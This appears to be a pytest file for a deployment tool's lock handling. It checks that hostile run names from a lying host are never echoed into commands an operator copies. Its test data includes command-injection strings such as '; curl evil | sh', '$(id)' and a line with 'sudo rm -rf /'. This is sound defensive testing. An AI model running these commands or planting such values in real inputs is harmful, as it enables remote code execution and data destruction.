"""A host that lies about who holds its lock, or what it has on trial: words that an operator reads,
and commands that they copy.
"""

from typing import Any

import pytest

from hale.apply import lock
from hale.apply.lock import LockHeld, Owner
from hale.ssh.target import CommandResult, Target

RUN = "2026-01-01T000000Z-fix"
TRIALS = {
    "a command behind it": f"{RUN}; curl evil | sh",
    "a command in it": f"{RUN}$(id)",
    "a line behind it": f"{RUN}\nsudo rm -rf /",
    "an option": "--force-unlock",
    "an escape": f"\x1b[2J{RUN}",
    "a folder": f"../{RUN}",
    "letters that look alike": f"{RUN}\uff1b",
    "nothing": "",
}
HOLDERS = {
    "nested": "[" * 100_000,
    "no object": '"ops"',
    "a number for a name": '{"operator": 7, "source_host": "a", "run": "b", "since": "c"}',
    "half of it": '{"operator": "a", "source_host": "b"}',
}


class Lying:
    """A session with a host that answers this to every script."""

    target = Target("k8s-node-01")

    def __init__(self, status: int, answer: str) -> None:
        self.answer = CommandResult(status, answer.encode(), b"", 0.0)

    def run(self, *_: Any, **__: Any) -> CommandResult:
        return self.answer


def refusal(status: int, answer: str) -> str:
    session: Any = Lying(status, answer)
    with pytest.raises(LockHeld) as raised:
        lock.acquire(session, Owner("op", "here", "run", "now"), stale=False)
    return str(raised.value)


def test_a_run_on_trial_is_named_with_what_to_type() -> None:
    assert f"`invoke confirm {RUN}`" in refusal(lock._ON_TRIAL, RUN)


@pytest.mark.parametrize("name", TRIALS)
def test_what_is_no_name_of_a_run_is_in_no_command(name: str) -> None:
    found = refusal(lock._ON_TRIAL, TRIALS[name])
    assert found == (
        "k8s-node-01 has something on trial that is no run of Hale: see /var/lib/hale/trial"
    )


@pytest.mark.parametrize("name", HOLDERS)
def test_what_is_no_owner_is_shown_as_none(name: str) -> None:
    found = refusal(lock._LIVE, HOLDERS[name])
    assert "is locked by something that is not a lock of Hale" in found
